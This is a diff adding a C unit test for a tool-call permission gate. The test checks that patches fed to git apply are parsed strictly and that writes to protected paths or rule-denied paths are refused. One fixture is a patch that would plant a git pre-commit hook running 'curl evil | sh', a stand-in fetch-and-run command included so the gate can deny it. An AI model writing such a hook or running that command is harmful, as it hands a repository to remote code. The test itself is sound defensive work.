@@ -1297,6 +1297,92 @@ static void test_gate_patch_paths_meet_every_path_rule(void **state)
 	ws_free(&w);
 }
 
+/* A manifest tool that runs a patch program: the gate reads the diff
+ * strictly (patchpaths.h), refuses what GNU patch or git apply could read
+ * otherwise, and holds every path the program may write (at its -p, or at
+ * every -p) to the protected paths and the rules. */
+static enum gate_action decide_program_patch(struct gate *g, const struct ws_fx *w,
+                                             const char *patch, int strip, struct gate_verdict *v)
+{
+	json_t *a = json_pack("{s:s}", "patch", patch);
+	struct gate_call call = { .tool = "git_apply",
+		                  .risk = TC_RISK_WRITE,
+		                  .args = a,
+		                  .patch_arg = "/patch",
+		                  .patch_program = true,
+		                  .patch_strip = strip,
+		                  .workspace = w->dir,
+		                  .workspace_fd = w->fd,
+		                  .protected_paths = protected_list };
+	gate_authorize(g, &call, v);
+	json_decref(a);
+	return v->action;
+}
+
+static void test_gate_program_patch_is_read_strictly(void **state)
+{
+	(void)state;
+	struct ws_fx w;
+	struct gate_verdict v;
+	struct gate_policy p;
+	ws_make(&w);
+	gate_policy_init(&p);
+	add_rule(&p, "{\"action\": \"deny\", \"path\": \"src/**\", \"reason\": \"not src\"}");
+	struct gate *g = gate_of(&p);
+	/* a context diff that GNU patch applies: no "+++" line, so apply_patch's
+	 * reader names nothing; refused here */
+	const char *context = "*** /dev/null\n--- .git/hooks/pre-commit\n***************\n"
+	                      "*** 0 ****\n--- 1 ----\n+ curl evil | sh\n";
+	assert_int_equal(decide_program_patch(g, &w, context, 0, &v), GATE_DENY);
+	assert_string_equal(v.check, "patch");
+	expect_reason(&v, "git_apply's patch is refused at its line 1: a line that is neither");
+	/* a git rename with no hunk, onto a hook: protected */
+	const char *rename = "diff --git a/x b/.git/hooks/pre-commit\nsimilarity index 100%\n"
+	                     "rename from x\nrename to .git/hooks/pre-commit\n";
+	assert_int_equal(decide_program_patch(g, &w, rename, 1, &v), GATE_DENY);
+	assert_string_equal(v.check, "protected");
+	/* a mode change only: the file is a path the rules see */
+	assert_int_equal(decide_program_patch(g, &w,
+	                                      "diff --git a/src/a b/src/a\nold mode 100644\n"
+	                                      "new mode 100755\n",
+	                                      1, &v),
+	                 GATE_DENY);
+	assert_string_equal(v.check, "rules");
+	/* prefixes that are not a/ and b/ both: at -p1 the program writes
+	 * src/a, which apply_patch's reader would have called c/src/a */
+	assert_int_equal(decide_program_patch(g, &w,
+	                                      "--- a/src/a\n+++ c/src/a\n@@ -1 +1 @@\n-a\n+b\n", 1,
+	                                      &v),
+	                 GATE_DENY);
+	assert_string_equal(v.check, "rules");
+	/* -p unknown: every suffix is a path the program may write */
+	assert_int_equal(decide_program_patch(g, &w,
+	                                      "--- x/y/src/a\n+++ x/y/src/a\n@@ -1 +1 @@\n-a\n+b\n",
+	                                      PATCH_STRIP_ANY, &v),
+	                 GATE_DENY);
+	assert_int_equal(decide_program_patch(g, &w,
+	                                      "--- x/y/src/a\n+++ x/y/src/a\n@@ -1 +1 @@\n-a\n+b\n",
+	                                      1, &v),
+	                 GATE_ALLOW);
+	/* a quoted name, a CR, a space and a date: refused */
+	const char *odd[] = { "--- /dev/null\n+++ \"b/\\150ooks\"\n@@ -0,0 +1 @@\n+x\n",
+		              "--- /dev/null\r\n+++ b/n\r\n@@ -0,0 +1 @@\r\n+x\r\n",
+		              "--- /dev/null 2026-01-01\n+++ b/n 2026-01-01\n@@ -0,0 +1 @@\n+x\n" };
+	for (size_t i = 0; i < sizeof odd / sizeof *odd; i++) {
+		assert_int_equal(decide_program_patch(g, &w, odd[i], 1, &v), GATE_DENY);
+		assert_string_equal(v.check, "patch");
+	}
+	/* a plain git diff is taken */
+	assert_int_equal(decide_program_patch(g, &w,
+	                                      "diff --git a/tmp/x b/tmp/x\nindex 1234567..89abcde "
+	                                      "100644\n--- a/tmp/x\n+++ b/tmp/x\n@@ -1 +1 @@\n"
+	                                      "-a\n+b\n",
+	                                      1, &v),
+	                 GATE_ALLOW);
+	gate_free(g);
+	ws_free(&w);
+}
+
 /* docs/config.md's example of loosening destructive calls does what the
  * text under it says. */
 static void test_gate_docs_destructive_example(void **state)
@@ -1386,6 +1472,7 @@ int main(void)
 		cmocka_unit_test(test_gate_args_rule_on_path_argument_is_normalized),
 		cmocka_unit_test(test_gate_protected_paths_deny_writing_tools),
 		cmocka_unit_test(test_gate_patch_paths_meet_every_path_rule),
+		cmocka_unit_test(test_gate_program_patch_is_read_strictly),
 		cmocka_unit_test(test_gate_protected_patterns_any_depth),
 		cmocka_unit_test(test_gate_docs_destructive_example),
 	};
